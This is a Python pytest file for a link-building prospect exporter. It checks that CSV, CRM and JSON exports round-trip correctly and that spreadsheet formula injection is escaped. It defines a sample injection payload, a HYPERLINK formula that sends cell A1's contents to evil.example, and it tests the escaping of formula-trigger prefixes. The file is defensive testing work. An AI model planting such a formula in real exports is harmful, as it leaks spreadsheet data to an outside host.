"""Every export format written to a real file (and stdout), parsed back and checked."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from discover.errors import InputError
from discover.outreach.export import EXPORTERS, FORMATS, export_prospects, get_exporter, safe_cell
from discover.records import Prospect
from discover.outreach.shortlist import pitch_angle
from discover.store import Store

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def prospects() -> list[Prospect]:
    return [
        Prospect(url="https://bakes.co.uk/resources", domain="bakes.co.uk", type="resource", score=0.91,
                 title=EVIL, why="+relevant: vegan, baking", email="jo@bakes.co.uk", email_kind="person",
                 broken_links=["http://dead.example/old"], social=["https://twitter.com/bakes"],
                 explanation={"author": "Jo Bloggs", "top_terms": [["vegan", 0.4]]}, niche="vegan baking"),
        Prospect(url="http://forum.example.com/t/1", domain="example.com", type="forum", score=0.5,
                 title="Best egg replacers? – Forum", why="-12 days since last post", contact_page="http://example.com/c",
                 niche="vegan baking"),
        Prospect(url="http://dir.example.org/", domain="dir.example.org", type="directory", score=-0.25,
                 title="@Local directory\tlisting", niche="vegan baking",
                 explanation={"submit_url": "http://dir.example.org/submit"}),
    ]


def test_safe_cell() -> None:
    assert safe_cell("=1+2") == "'=1+2"
    for bad in ("+x", "-x", "@SUM(A1)", "\tx", "\rx", "-2+3", "=-1"):
        assert safe_cell(bad).startswith("'")
    assert safe_cell("-3.5") == "-3.5" and safe_cell("+44") == "+44" and safe_cell(-0.25) == "-0.25"
    assert safe_cell(0.912345) == "0.912" and safe_cell(None) == "" and safe_cell(["a", "b"]) == "a; b"
    assert safe_cell("plain") == "plain"


def test_pitch_angles() -> None:
    ps = prospects()
    assert "replacement for the dead link http://dead.example/old" in pitch_angle(ps[0])
    assert pitch_angle(ps[1]).startswith("Join and contribute to the thread “Best egg replacers?”")
    assert "http://dir.example.org/submit" in pitch_angle(ps[2])
    haro = Prospect(url="u", domain="d", type="haro", score=1, title="Need vegan bakers", deadline="2025-05-01 17:00")
    assert "before 2025-05-01 17:00" in pitch_angle(haro)
    gp = Prospect(url="u", domain="d", type="guest_post", score=1, title="Write for us | Bakes",
                  explanation={"top_terms": [["aquafaba", 0.5], ["meringue", 0.2]]})
    assert "aquafaba" in pitch_angle(gp) and "Write for us" in pitch_angle(gp)
    assert "comment" in pitch_angle(Prospect(url="u", domain="d", type="blog", score=1))


def _read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")   # BOM for Excel
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


EXPECTED_HEADERS = {
    "hubspot": ["Company name", "Company Domain Name", "Website URL", "First Name", "Last Name", "Email",
                "Lifecycle Stage", "Lead Status", "Description"],
    "pipedrive": ["Lead title", "Organization name", "Organization website", "Person name", "Person email",
                  "Lead labels", "Note"],
    "pitchbox": ["Partner URL", "Partner Category", "Contact Email", "Contact First Name", "Contact Last Name",
                 "Company", "Link Type", "Notes"],
}


@pytest.mark.parametrize("fmt", ["csv", "hubspot", "pipedrive", "buzzstream", "pitchbox"])
def test_csv_formats_round_trip(fmt: str, tmp_path: Path) -> None:
    out = tmp_path / f"x.{fmt}.csv"
    assert export_prospects(prospects(), fmt, out) == 3
    rows = _read_csv(out)
    assert len(rows) == 3
    cls = get_exporter(fmt)
    assert list(rows[0]) == list(cls.columns)  # type: ignore[attr-defined]
    if fmt in EXPECTED_HEADERS:
        assert list(rows[0]) == EXPECTED_HEADERS[fmt]
    for row in rows:                      # no cell can run as a formula
        for value in row.values():
            assert not value.startswith(("=", "+", "@", "\t", "\r")) and not (
                value.startswith("-") and not value.lstrip("-").replace(".", "").isdigit())
    text = out.read_text("utf-8-sig")
    assert "bakes.co.uk" in text and "dead.example/old" in text


def test_csv_columns_and_values(tmp_path: Path) -> None:
    out = tmp_path / "s.csv"
    export_prospects(prospects(), "csv", out)
    rows = _read_csv(out)
    assert rows[0]["title"] == "'" + EVIL and rows[0]["why"] == "'+relevant: vegan, baking"
    assert rows[0]["score"] == "0.91" and rows[2]["score"] == "-0.25"          # negative numbers untouched
    assert rows[2]["title"] == "'@Local directory\tlisting"
    assert rows[0]["email"] == "jo@bakes.co.uk" and rows[0]["email_kind"] == "person"
    assert rows[0]["social"] == "https://twitter.com/bakes" and rows[0]["pitch"]


def test_crm_values(tmp_path: Path) -> None:
    export_prospects(prospects(), "hubspot", tmp_path / "h.csv")
    h = _read_csv(tmp_path / "h.csv")[0]
    assert (h["Company Domain Name"], h["Email"], h["First Name"], h["Last Name"], h["Lifecycle Stage"]) == (
        "bakes.co.uk", "jo@bakes.co.uk", "Jo", "Bloggs", "lead")
    assert h["Website URL"] == "https://bakes.co.uk/"
    export_prospects(prospects(), "pipedrive", tmp_path / "p.csv")
    p = _read_csv(tmp_path / "p.csv")
    assert p[0]["Lead title"] == "Resource page: bakes.co.uk" and p[0]["Person name"] == "Jo Bloggs"
    assert p[1]["Person name"] == "" and p[1]["Organization name"] == "example.com"
    export_prospects(prospects(), "buzzstream", tmp_path / "b.csv")
    b = _read_csv(tmp_path / "b.csv")
    assert b[0]["Twitter"] == "https://twitter.com/bakes" and b[1]["Contact Form URL"] == "http://example.com/c"
    export_prospects(prospects(), "pitchbox", tmp_path / "x.csv")
    x = _read_csv(tmp_path / "x.csv")
    assert x[0]["Partner URL"] == "https://bakes.co.uk/resources" and x[0]["Link Type"] == "Resource page"


def test_json_and_jsonl(tmp_path: Path) -> None:
    export_prospects(prospects(), "json", tmp_path / "p.json")
    data = json.loads((tmp_path / "p.json").read_text("utf-8"))
    assert [d["domain"] for d in data] == ["bakes.co.uk", "example.com", "dir.example.org"]
    assert data[0]["title"] == EVIL and data[0]["pitch"]       # JSON is data, not a spreadsheet: unchanged
    assert Prospect(**{**data[1], "pitch": ""}) == prospects()[1]
    export_prospects(prospects(), "jsonl", tmp_path / "p.jsonl")
    lines = (tmp_path / "p.jsonl").read_text("utf-8").splitlines()
    assert [json.loads(x)["score"] for x in lines] == [0.91, 0.5, -0.25]
    export_prospects([], "json", tmp_path / "e.json")
    assert json.loads((tmp_path / "e.json").read_text()) == []


def test_registry() -> None:
    assert set(FORMATS) == {"table", "csv", "json", "jsonl", "hubspot", "pipedrive", "buzzstream", "pitchbox"}
    assert all(EXPORTERS[n].name == n for n in FORMATS)
    with pytest.raises(InputError):
        get_exporter("xlsx")


def test_cli_shortlist_stdout_and_file(tmp_path: Path) -> None:
    db = tmp_path / "e.sqlite"
    s = Store.open(str(db))
    run = s.start_run("vegan baking")
    s.save_prospects(run, prospects())
    s.close()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    base = [sys.executable, "-m", "discover", "shortlist", "--db", str(db)]
    out = subprocess.run([*base, "-f", "csv", "--top", "2"], capture_output=True, text=True, env=env, timeout=60)
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert out.returncode == 0 and not out.stdout.startswith("\ufeff") and len(rows) == 2
    out = subprocess.run([*base, "-f", "jsonl", "--types", "forum,directory", "--min-score", "0"],
                         capture_output=True, text=True, env=env, timeout=60)
    assert [json.loads(x)["type"] for x in out.stdout.splitlines()] == ["forum"]
    target = tmp_path / "hub.csv"
    out = subprocess.run([*base, "-f", "hubspot", "--out", str(target)], capture_output=True, text=True, env=env,
                         timeout=60)
    assert out.returncode == 0 and len(_read_csv(target)) == 3
    table = subprocess.run(base, capture_output=True, text=True, env=env, timeout=60)
    assert "bakes.co.uk" in table.stdout and "example.com" in table.stdout
    bad = subprocess.run([*base, "-f", "xlsx"], capture_output=True, text=True, env=env, timeout=60)
    assert bad.returncode == 2 and "unknown format" in bad.stderr
